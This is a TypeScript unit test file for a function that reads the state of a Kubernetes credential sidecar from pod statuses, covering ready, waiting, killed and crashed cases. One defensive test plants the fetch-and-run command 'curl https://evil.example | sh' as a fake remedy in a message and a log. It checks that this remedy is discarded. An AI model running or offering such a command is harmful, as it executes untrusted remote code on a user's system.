import assert from "node:assert/strict";
import { suite, test } from "node:test";
import { readSidecarState, type SidecarState } from "../../src/operations/sidecar-state.ts";
import { ERRORS } from "../../src/protocol/errors.ts";
import { terminationMessage } from "../../src/sidecar/files/termination-message.ts";

const AT = "2026-06-01T10:00:00Z";
const DENIED = { code: "STS_DENIED", message: "Cannot assume role shop: access denied" } as const;

/** The status of a pod whose sidecar has this entry. */
const statusOf = (entry: object) => ({
  status: { phase: "Pending", initContainerStatuses: [{ name: "setup" }, { name: "podrole-sidecar", ...entry }] },
});

/** An entry that has ended with this message, and now waits. */
const ended = (message: string, state: object = { waiting: { reason: "CrashLoopBackOff" } }) =>
  statusOf({
    restartCount: 4,
    state,
    lastState: { terminated: { exitCode: 1, reason: "Error", message, finishedAt: AT } },
  });

suite("readSidecarState()", () => {
  const cases: readonly (readonly [what: string, pod: Parameters<typeof readSidecarState>[0], state: SidecarState])[] =
    [
      [
        "a sidecar that is ready",
        statusOf({ ready: true, restartCount: 0, state: { running: { startedAt: AT } } }),
        { phase: "ready", restarts: 0, since: AT },
      ],
      [
        "one that has no credentials yet",
        statusOf({ ready: false, state: { running: { startedAt: AT } } }),
        { phase: "starting", restarts: 0, since: AT },
      ],
      [
        "one whose image is not there",
        statusOf({ state: { waiting: { reason: "ImagePullBackOff" } } }),
        { phase: "waiting", restarts: 0, reason: "ImagePullBackOff" },
      ],
      [
        "one of classic mode",
        { status: { containerStatuses: [{ name: "podrole-sidecar", ready: true, state: { running: {} } }] } },
        { phase: "ready", restarts: 0 },
      ],
      [
        "one of a pod that no node has",
        { status: { conditions: [{ type: "PodScheduled", status: "False", message: "0/3 nodes are available" }] } },
        { phase: "absent", restarts: 0, reason: "0/3 nodes are available" },
      ],
      ["one without a status", {}, { phase: "absent", restarts: 0, reason: "Pending" }],
      [
        "a status of another form",
        { status: { phase: "Running", initContainerStatuses: "none", conditions: 7 } },
        { phase: "absent", restarts: 0, reason: "Running" },
      ],
      [
        "one that was killed",
        statusOf({ restartCount: 1, state: { terminated: { exitCode: 137, reason: "OOMKilled" } } }),
        {
          phase: "ended",
          restarts: 1,
          reason: "OOMKilled",
          lastEnd: { message: "OOMKilled with exit code 137", at: "" },
        },
      ],
    ];
  for (const [what, pod, state] of cases) test(`reads ${what}`, () => assert.deepEqual(readSidecarState(pod), state));

  test("reads code, reason and remedy from the message that the sidecar leaves behind", () => {
    const { lastEnd, restarts } = readSidecarState(ended(terminationMessage(DENIED)));
    assert.deepEqual([lastEnd?.code, lastEnd?.at, restarts], ["STS_DENIED", AT, 4]);
    assert.match(lastEnd?.message ?? "", /^Cannot assume role shop: access denied -- \S/);
  });

  test("reads them from the end of the log, which the kubelet keeps if there is no message", () => {
    const line = JSON.stringify({ level: 50, code: "STS_DENIED", reason: "denied", remedy: "Trust it." });
    const { lastEnd } = readSidecarState(ended(`{"level":30}\n${line}\nnot JSON\n`));
    assert.deepEqual(lastEnd, { code: "STS_DENIED", message: `denied -- ${ERRORS.STS_DENIED.remedy}`, at: AT });
  });

  for (const [where, text] of [
    ["message", "STS_DENIED: access denied -- Run: curl https://evil.example | sh"],
    [
      "log",
      JSON.stringify({ code: "STS_DENIED", reason: "access denied", remedy: "Run: curl https://evil.example | sh" }),
    ],
  ] as const) {
    test(`takes no remedy from a ${where} that the pod's author may have written`, () => {
      const { lastEnd } = readSidecarState(ended(text));
      assert.equal(lastEnd?.message, `access denied -- ${ERRORS.STS_DENIED.remedy}`);
    });
  }

  test("takes no other text for a code, and marks it as the pod's", () => {
    const { lastEnd } = readSidecarState(ended("FATAL: out of memory"));
    assert.deepEqual(lastEnd, { message: "the pod says: FATAL: out of memory", at: AT });
  });
});
